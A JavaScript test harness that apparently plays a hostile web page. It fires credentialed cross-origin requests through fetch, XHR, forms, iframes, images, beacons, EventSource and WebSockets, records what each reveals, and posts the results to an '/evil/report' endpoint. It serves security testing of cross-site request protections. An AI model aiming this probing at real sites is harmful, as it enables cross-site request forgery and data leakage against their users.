// Every way in which a page can send a request, and what it gets to see of the answer. `attempts` and `base` stand before.
'use strict';
const patience = 10000;
const element = (name, more) => document.body.appendChild(Object.assign(document.createElement(name), more));
const settled = (thing, good = 'load') => new Promise((resolve) => {
  thing.addEventListener(good, () => resolve({ ended: good }));
  thing.addEventListener('error', () => resolve({ ended: 'error' }));
});

function shown(frame) {
  try {
    return { text: frame.contentDocument.documentElement.textContent };
  } catch (error) {
    return { ended: error.name };
  }
}

const ways = {
  async fetch({ target, method, headers, body }) {
    const answer = await fetch(base + target, { method, headers, body });
    return { status: answer.status, text: await answer.text() };
  },
  async blind({ target, method, body }) {
    const answer = await fetch(base + target, { method, mode: 'no-cors', credentials: 'include', body });
    const text = await answer.text();
    return text ? { status: answer.status, text } : { ended: answer.type };
  },
  xhr({ target, method, headers, body }) {
    const request = new XMLHttpRequest();
    request.open(method, base + target);
    Object.entries(headers).forEach(([name, value]) => request.setRequestHeader(name, value));
    const end = settled(request).then((how) => (
      how.ended === 'load' ? { status: request.status, text: request.responseText } : how));
    request.send(body);
    return end;
  },
  image: ({ target }) => settled(element('img', { src: base + target })),
  script: ({ target }) => settled(element('script', { src: base + target })),
  style: ({ target }) => settled(element('link', { rel: 'stylesheet', href: base + target })),
  async frame({ target }) {
    const frame = element('iframe', {});
    const end = settled(frame);
    frame.src = base + target;
    await end;
    return shown(frame);
  },
  async form({ target, enctype, fields }) {
    const frame = element('iframe', { name: `frame${Math.random()}` });
    const form = element('form', { method: 'POST', action: base + target, enctype, target: frame.name });
    fields.forEach(([name, value]) => form.appendChild(Object.assign(document.createElement('input'), { name, value })));
    const end = settled(frame);
    form.submit();
    await end;
    return shown(frame);
  },
  async beacon({ target, body }) {
    navigator.sendBeacon(base + target, body);
    return { ended: 'sent' };
  },
  events({ target }) {
    const source = new EventSource(base + target);
    return settled(source, 'message').finally(() => source.close());
  },
  socket({ target }) {
    return settled(new WebSocket((base || location.origin).replace('http', 'ws') + target), 'open');
  },
};

async function one(attempt) {
  const late = new Promise((resolve) => setTimeout(() => resolve({ ended: 'no answer' }), patience));
  const end = Promise.race([ways[attempt.way](attempt), late]).catch((error) => ({ ended: error.name }));
  return { way: attempt.way, name: attempt.name, ...await end };
}

async function all() {
  const told = [];
  const work = async () => {
    while (attempts.length) told.push(await one(attempts.shift()));
  };
  await Promise.all([work(), work(), work(), work()]);
  await fetch('/evil/report', { method: 'POST', body: JSON.stringify(told) });
}
all();
